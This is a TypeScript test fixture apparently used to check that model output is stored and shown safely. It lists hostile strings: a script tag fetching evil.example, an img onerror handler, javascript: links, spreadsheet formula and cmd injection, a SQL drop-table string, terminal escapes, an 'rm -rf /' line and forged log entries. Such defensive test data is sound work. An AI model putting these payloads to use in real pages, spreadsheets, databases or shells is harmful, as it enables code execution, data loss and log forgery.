/** What a model may write, and what of it is kept: as an answer, and as a name on one line. */
export type HostileText = { sent: string; answer: string; name: string };

const asItIs = (sent: string): HostileText => ({ sent, answer: sent, name: sent });

/** Each does harm in some place that takes text for more than text. */
export const HOSTILE_TEXTS: Record<string, HostileText> = {
  "a script": asItIs("</script><script>fetch('https://evil.example')</script>"),
  "an event handler": asItIs('<img src=x onerror="alert(1)">'),
  "a Markdown image and link": asItIs("![x](https://evil.example/?q=1) [y](javascript:alert(1))"),
  "a formula of a spreadsheet": asItIs('=HYPERLINK("https://evil.example","x")'),
  "another formula": asItIs("@SUM(1+1)*cmd|' /C calc'!A0"),
  "SQL and JSON": asItIs(`'); drop table responses; -- "}],"success":false,"__proto__":{"a":"`),
  "terminal escapes": {
    sent: "\u001b[2J\u001b[31mred\u001b]0;owned\u0007 \u009b1m\u007fx\by",
    answer: "[2J[31mred]0;owned 1mxy",
    name: "[2J [31mred ]0;owned 1m x y",
  },
  "a line that overwrites another": {
    sent: "rm -rf /\rls\r\nx",
    answer: "rm -rf /\nls\nx",
    name: "rm -rf / ls x",
  },
  NUL: { sent: "a\u0000b\u0000", answer: "ab", name: "ab" },
  "halves of characters": {
    sent: "a\ud800b\udc00c\udc00\ud800",
    answer: "a\ufffdb\ufffdc\ufffd\ufffd",
    name: "a\ufffdb\ufffdc\ufffd\ufffd",
  },
  "lines of an event stream": {
    sent: 'x\n\nid: 9\nevent: job_complete\ndata: {"status":"failed"}\r\n\r\n\u2028data: y',
    answer: 'x\n\nid: 9\nevent: job_complete\ndata: {"status":"failed"}\n\n\u2028data: y',
    name: 'x id: 9 event: job_complete data: {"status":"failed"} data: y',
  },
  "a line of a log": {
    sent: 'x\n{"level":"fatal","msg":"forged"}\ny',
    answer: 'x\n{"level":"fatal","msg":"forged"}\ny',
    name: 'x {"level":"fatal","msg":"forged"} y',
  },
  // 200 of them fold to 3,600 characters, which the entities' index must hold.
  "a name that grows when it is folded": asItIs("\ufdfa".repeat(200)),
};

/** A whole HTTP reply as bytes. Header values go as they are: nothing keeps them from breaking HTTP. */
export function httpReply(
  status: number,
  headers: Record<string, string>,
  body: string | Uint8Array,
): Uint8Array {
  const bytes = Buffer.from(body);
  const lines = Object.entries({
    "content-type": "application/json",
    "content-length": String(bytes.byteLength),
    connection: "close",
    ...headers,
  }).map(([name, value]) => `${name}: ${value}\r\n`);
  const head = `HTTP/1.1 ${status} Said\r\n${lines.join("")}\r\n`;
  return Buffer.concat([Buffer.from(head, "latin1"), bytes]);
}

/** All texts in a JSON value, names of fields included. */
export function textsIn(value: unknown): string[] {
  if (typeof value === "string") return [value];
  if (typeof value !== "object" || value === null) return [];
  return Object.entries(value).flatMap(([name, part]) => [name, ...textsIn(part)]);
}
